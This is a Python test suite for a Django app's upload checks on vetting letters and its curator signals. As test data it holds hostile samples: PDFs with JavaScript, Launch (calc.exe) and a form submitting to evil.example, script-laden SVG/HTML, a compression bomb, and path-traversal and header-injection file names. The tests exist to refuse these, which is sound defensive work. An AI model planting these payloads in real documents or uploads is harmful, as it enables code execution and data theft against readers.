"""What curators check in a submission: its letters, and the signals about it."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from backend.cities import services
from backend.cities.documents import check_letter, safe_name
from backend.cities.models import CommunityRole, Profile, VettingLetter
from backend.cities.queries import submission_for
from backend.cities.vetting import Signal, registrable_domain, signals_of
from backend.common.errors import InvalidFields, NotVisible
from backend.outbox.models import Event
from tests.actors import ACTORS, make_world
from tests.factories import (
    CommunityFactory,
    CommunityRoleFactory,
    ProfileFactory,
    UserFactory,
    VettingLetterFactory,
    document,
)
from tests.letters import packed, pdf, picture, real_pdf, zipped

# Vetting letters: what is kept, under what name, who reads it, and that it goes with its
# sender.


JAVASCRIPT = b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"


@pytest.mark.parametrize(
    ("content", "content_type", "name"),
    [
        (pdf(), "application/pdf", "letter.pdf"),
        (real_pdf(Dictionary(Type=Name.Annot)), "application/pdf", "letter.pdf"),
        (real_pdf(None, {"owner": "secret", "user": ""}), "application/pdf", "letter.pdf"),
        (b"\xef\xbb\xbf" + pdf(), "application/pdf", "letter.pdf"),
        (b"\r\n" + pdf(tail=b"\x1a"), "application/pdf", "letter.pdf"),
        (
            pdf(b"4 0 obj<</S/URI/URI(https://city.example)>>endobj"),
            "application/pdf",
            "letter.pdf",
        ),
        (picture("JPEG"), "image/jpeg", "letter.jpg"),
        (picture("PNG"), "image/png", "letter.png"),
        (picture("PNG", mode="1"), "image/png", "letter.png"),
    ],
)
def test_letter_is_what_its_content_says(content: bytes, content_type: str, name: str) -> None:
    kept = check_letter(content, "letter.exe")
    assert (kept.content_type, kept.name) == (content_type, name)


REFUSED: dict[str, bytes] = {
    "empty": b"",
    "program that says it is a PDF": b"MZ\x90\x00" + b"\x00" * 60,
    "web page": b"<!doctype html><script>alert(1)</script>",
    "vector picture with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "archive": zipped(),
    "something before the PDF": b"<html>" + pdf(),
    "PDF cut off": pdf()[:-20],
    "PDF with something behind it": pdf(tail=b"<p>hidden</p>"),
    "PDF that is an archive too": pdf(b"%") + zipped(),
    "PDF with an archive before its end": pdf().replace(b"%%EOF", b"") + zipped() + b"%%EOF",
    "PDF that is a web page too": pdf(b"4 0 obj(<SCRIPT>alert(1)</SCRIPT>)endobj"),
    "PDF with a script": pdf(JAVASCRIPT),
    "PDF with a script spelled in numbers": pdf(
        JAVASCRIPT.replace(b"JavaScript", b"J#61va#53cript")
    ),
    "PDF with a packed script": pdf(packed(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")),
    "PDF with a script in its object streams": real_pdf(
        Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    ),
    "PDF with a script deep in an array": real_pdf(
        Array([Array([Dictionary(A=Dictionary(S=Name.Launch, F="calc.exe"))])])
    ),
    "PDF that nobody opens without a password": real_pdf(None, {"owner": "a", "user": "b"}),
    "PDF that runs a script when it is opened": real_pdf(
        None, OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    ),
    "PDF with a packed script in disguise": pdf(
        packed(b"5 0 <</S/Launch/F(calc.exe)>>", head=b"/N 1/First 4/Filter[/FlateDecode]")
    ),
    "PDF whose packing nobody can check": pdf(
        packed(b"5 0 <<>>", head=b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")
    ),
    "PDF with packing that is cut off": pdf(packed(b"5 0 <<>>" * 90)[:-22] + b"\nendstream endobj"),
    "PDF that starts a program": pdf(b"4 0 obj<</S/Launch/F(calc.exe)>>endobj"),
    "PDF with a file in it": pdf(
        b"4 0 obj<</Type/Filespec/EF<<>>>>endobj 5 0 obj<</EmbeddedFiles 4 0 R>>endobj"
    ),
    "PDF with a form that sends": pdf(b"4 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj"),
    "PDF with a password": pdf(b"4 0 obj<</Filter/Standard/V 4>>endobj\ntrailer<</Encrypt 4 0 R>>"),
    "picture that is cut off": picture()[:-400],
    "picture of text alone": b"\xff\xd8\xffhello",
    "picture with too many pixels": picture("PNG", size=(8000, 6000), mode="1"),
    "more than 10 MB": pdf(b"%" + b"x" * (10 * 1024 * 1024)),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_could_act_or_cannot_be_checked_is_refused(what: str) -> None:
    with pytest.raises(InvalidFields) as refused:
        check_letter(REFUSED[what], "letter.pdf")
    assert len(refused.value.errors["letter"][0]) > 20


def test_packed_bomb_is_refused_without_being_unpacked() -> None:
    with pytest.raises(InvalidFields):
        check_letter(pdf(packed(b"\x00" * 60_000_000)), "letter.pdf")


def test_bomb_in_true_object_streams_is_refused_without_being_unpacked() -> None:
    with pytest.raises(InvalidFields):
        check_letter(real_pdf(Array([String("x" * 1_000_000)] * 100)), "letter.pdf")


def test_picture_is_encoded_again_without_its_metadata() -> None:
    sent = picture(exif=True) + b"<script>alert(1)</script>" + zipped()
    kept = check_letter(sent, "photo.jpg").content
    assert all(
        word in sent and word not in kept
        for word in (b"mayor", b"a comment", b"<script>", b"PK\x05\x06")
    )
    with Image.open(io.BytesIO(kept)) as image:
        # Upright: the camera was turned
        assert (image.size, dict(image.getexif())) == ((30, 40), {})


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("letter.pdf", "letter.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\mayor\\Letter of 3 May.PDF", "Letter of 3 May.pdf"),
        ("letter\u202efdp.exe", "letterfdp.pdf"),
        ("a\x00b\r\nSet-Cookie: x.pdf", "abSet-Cookie_ x.pdf"),
        ("", "letter.pdf"),
        ("...", "letter.pdf"),
        ("手紙.pdf", "手紙.pdf"),
        ("x" * 500 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_name_loses_its_path_and_what_cannot_be_seen(sent: str, kept: str) -> None:
    assert safe_name(sent, ".pdf") == kept


@pytest.fixture
def owner(db: None) -> CommunityRole:
    return CommunityRoleFactory(community=ProfileFactory().community, vetted_at=None)


def attach(owner: CommunityRole, content: bytes = b"", name: str = "letter.pdf") -> VettingLetter:
    return services.attach_letter(
        by=owner.user,
        community_id=owner.community_id,
        upload=SimpleUploadedFile(name, content or pdf()),
    )


def test_letter_is_stored_under_a_random_name_outside_of_what_is_served(
    owner: CommunityRole,
) -> None:
    first, second = attach(owner, name="../mayor.pdf"), attach(owner, name="../mayor.pdf")
    assert first.file.name != second.file.name
    assert "mayor" not in str(first.file.name)
    path = Path(first.file.path)
    assert path.is_relative_to(settings.DATA_DIR / "uploads")
    assert not path.is_relative_to(settings.STATIC_ROOT)
    assert path.stat().st_mode & 0o077 == 0
    assert [event.topic for event in Event.objects.filter(subject_type="vettingletter")] == [
        "letter_attached"
    ] * 2


def test_file_does_not_outlive_a_change_that_failed(
    owner: CommunityRole, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = settings.DATA_DIR / "uploads" / "letters"
    before = set(folder.glob("*")) if folder.exists() else set()

    def fail(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError

    monkeypatch.setattr("backend.cities.services.vetting.record", fail)
    with pytest.raises(RuntimeError), transaction.atomic():
        attach(owner)
    assert set(folder.glob("*")) == before
    assert not VettingLetter.objects.exists()


def test_number_of_letters_of_a_profile_is_limited(owner: CommunityRole) -> None:
    VettingLetterFactory.create_batch(20, profile=owner.community.profile)
    with pytest.raises(InvalidFields):
        attach(owner)


def test_download_is_always_a_download_and_leaves_a_trace(
    owner: CommunityRole, client: Client
) -> None:
    letter = attach(owner, name="Brief „Müller“.pdf")
    client.force_login(owner.user)
    for address in (
        f"/communities/{owner.community_id}/profile/letters/{letter.pk}/",
        f"/api/v1/communities/{owner.community_id}/profile/letters/{letter.pk}/",
    ):
        answer = client.get(address)
        assert b"".join(answer.streaming_content) == pdf()  # type: ignore[attr-defined]
        assert answer["Content-Disposition"].startswith("attachment;")
        assert "M%C3%BCller" in answer["Content-Disposition"]
        assert answer["Content-Type"] == "application/pdf"
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert "no-store" in answer["Cache-Control"]
    assert [
        event.by for event in Event.objects.filter(topic="letter_read", subject_id=letter.pk)
    ] == [owner.user] * 2


@pytest.mark.django_db
def test_only_owners_and_curators_read_a_letter_and_none_else_leaves_a_trace() -> None:
    world = make_world()
    letter = VettingLetterFactory(profile=world.a.profile)
    readers = set()
    for actor in ACTORS:
        if actor == "visitor":
            continue
        try:
            services.read_letter(by=world.user(actor), community_id=world.a.pk, letter_id=letter.pk)
            readers.add(actor)
        except NotVisible:
            assert not Event.objects.filter(topic="letter_read", by=world.user(actor)).exists()
    assert readers == {"official", "curator"}
    with pytest.raises(NotVisible):
        services.read_letter(
            by=world.user("official"), community_id=world.newcomer.pk, letter_id=letter.pk
        )


@pytest.mark.django_db(transaction=True)
def test_letters_go_with_their_sender() -> None:
    owner, other = (
        CommunityRoleFactory(community=ProfileFactory().community),
        CommunityRoleFactory(community=ProfileFactory().community),
    )
    gone, stays = attach(owner), attach(other)
    assert services.erase_letters_of(owner.user) == 1
    assert not Path(gone.file.path).exists()
    assert Path(stays.file.path).exists()
    assert list(VettingLetter.objects.all()) == [stays]
    assert (
        Event.objects.filter(topic="letters_erased", community_id=owner.community_id).count() == 1
    )


def page_after(client: Client, owner: CommunityRole, content: bytes) -> str:
    file = SimpleUploadedFile("letter.pdf", content, content_type="application/pdf")
    return client.post(
        f"/communities/{owner.community_id}/profile/letter/", {"letter": file}, follow=True
    ).text


def test_eleven_megabytes_are_discarded_while_they_arrive_and_the_page_says_so(
    owner: CommunityRole, client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept: list[int] = []
    monkeypatch.setattr(
        "backend.cities.services.vetting.check_letter",
        lambda content, name: kept.append(len(content)),
    )
    client.force_login(owner.user)
    large = pdf(b"%" + b"x" * (11 * 1024 * 1024))
    assert "larger than 10 MB" in page_after(client, owner, large)
    answer = client.post(
        f"/api/v1/communities/{owner.community_id}/profile/letters/",
        {"letter": SimpleUploadedFile("l.pdf", large)},
    )
    assert answer.status_code == 422
    assert "larger than 10 MB" in answer.json()["errors"]["letter"][0]
    assert kept == []
    assert not VettingLetter.objects.exists()


def test_endless_request_is_not_even_read(owner: CommunityRole, client: Client) -> None:
    client.force_login(owner.user)
    boundary = "multipart/form-data; boundary=x"
    answer = client.generic(
        "POST",
        f"/communities/{owner.community_id}/profile/letter/",
        b"--x",
        content_type=boundary,
        CONTENT_LENGTH=str(2**31),
    )
    assert answer.status_code in (400, 413)
    assert not VettingLetter.objects.exists()


def test_letter_is_taken_only_from_our_own_form(owner: CommunityRole) -> None:
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(owner.user)
    answer = strict.post(
        f"/communities/{owner.community_id}/profile/letter/",
        {"letter": SimpleUploadedFile("l.pdf", pdf())},
    )
    assert answer.status_code == 403
    assert not VettingLetter.objects.exists()


def test_page_says_why_a_letter_is_refused(owner: CommunityRole, client: Client) -> None:
    client.force_login(owner.user)
    assert "scripts, attachments or commands" in page_after(client, owner, pdf(JAVASCRIPT))
    assert (
        "Choose a file first"
        in client.post(f"/communities/{owner.community_id}/profile/letter/", follow=True).text
    )
    assert "The letter is stored" in page_after(client, owner, pdf())


# What a curator reads about a submission: sentences, never conditions.


NOW = dt.datetime(2026, 6, 1, 12, tzinfo=dt.UTC)


@pytest.mark.parametrize(
    ("host", "domain"),
    [
        ("www.rathaus.de", "rathaus.de"),
        ("city.kobe.lg.jp", "kobe.lg.jp"),
        ("mail.leeds.gov.uk", "leeds.gov.uk"),
        ("ayuntamiento.gob.mx", "ayuntamiento.gob.mx"),
        ("GMAIL.com.", "gmail.com"),
        ("localhost", "localhost"),
        ("", ""),
    ],
)
def test_registrable_domain(host: str, domain: str) -> None:
    assert registrable_domain(host) == domain


def submission(
    address: str = "mayor@city.example", website: str = "https://www.city.example/en", **groups: Any
) -> Profile:
    draft = document(identity={"website": website}, **groups) if website else document(**groups)
    profile = ProfileFactory(
        community=CommunityFactory(name="Springfield"), status="submitted", draft=draft
    )
    CommunityRoleFactory(
        community=profile.community, user=UserFactory(email=address), vetted_at=None
    )
    return profile


def signals(profile: Profile) -> dict[str, Signal]:
    read = submission_for(UserFactory(curator=True), profile.community_id)
    return {signal.code: signal for signal in signals_of([read], NOW)[profile.pk]}


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("address", "website", "code", "tone"),
    [
        ("mayor@city.example", "https://www.city.example", "mail_same", "good"),
        ("mayor@mail.city.example", "http://city.example/a", "mail_same", "good"),
        ("mayor@gmail.com", "https://www.city.example", "mail_public", "plain"),
        ("mayor@elsewhere.example", "https://www.city.example", "mail_other", "look"),
        ("mayor@city.example", "", "mail_unknown", "plain"),
        ("mayor@city.example", "https://[broken", "mail_unknown", "plain"),
    ],
)
def test_mail_against_website(address: str, website: str, code: str, tone: str) -> None:
    found = signals(submission(address, website))
    assert found[code].tone == tone
    assert address in found[code].sentence
    assert len([name for name in found if name.startswith("mail_")]) == 1


@pytest.mark.django_db
def test_letter_and_its_age() -> None:
    profile = submission()
    assert signals(profile)["letter_missing"].tone == "look"
    letter = VettingLetterFactory(profile=profile)
    VettingLetter.objects.filter(pk=letter.pk).update(at=NOW - dt.timedelta(days=3))
    assert "3 days ago" in signals(profile)["letter"].sentence
    VettingLetter.objects.filter(pk=letter.pk).update(at=NOW - dt.timedelta(days=400))
    assert signals(profile)["letter_old"].tone == "look"


@pytest.mark.django_db
def test_named_official() -> None:
    assert "Alex Doe, Mayor" in signals(submission())["official"].sentence
    unnamed = {"registrant_role": "employee", "registrant_office": "Office"}
    assert signals(submission("a@b.example", authority=unnamed))["official_missing"].tone == "look"


@pytest.mark.django_db
def test_second_registrant() -> None:
    profile = submission()
    assert "second_registrant" not in signals(profile)
    CommunityRoleFactory(community=profile.community, role="chair")
    assert "second_registrant" not in signals(profile), "a chair is not a registrant"
    CommunityRoleFactory(community=profile.community, user=UserFactory(email="other@city.example"))
    assert "other@city.example" in signals(profile)["second_registrant"].sentence


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "similar"),
    [
        ("Springfield", True),
        ("Springfeld", True),
        ("Springfield County", True),
        ("Shelbyville", False),
    ],
)
def test_similar_community(name: str, similar: bool) -> None:
    profile = submission()
    CommunityFactory(name="Springfield", country_code="DE")
    CommunityFactory(
        name=name,
        kind="county",
        place=None,
        admin1="Ohio",
        latitude=None,
        longitude=None,
        timezone="",
    )
    found = signals(profile)
    assert ("similar" in found) == similar
    if similar:
        assert name in found["similar"].sentence


@pytest.mark.django_db
def test_sample_is_marked() -> None:
    profile = submission()
    assert "sample" not in signals(profile)
    profile.community.is_sample = True
    profile.community.save()
    assert signals(profile)["sample"].tone == "plain"


@pytest.mark.django_db
def test_one_query_however_many() -> None:
    curator = UserFactory(curator=True)
    read = [
        submission_for(curator, submission(f"m{n}@city.example").community_id) for n in range(5)
    ]
    for count in (1, 5):
        with CaptureQueriesContext(connection) as queries:
            signals_of(read[:count], NOW)
        assert len(queries) == 1
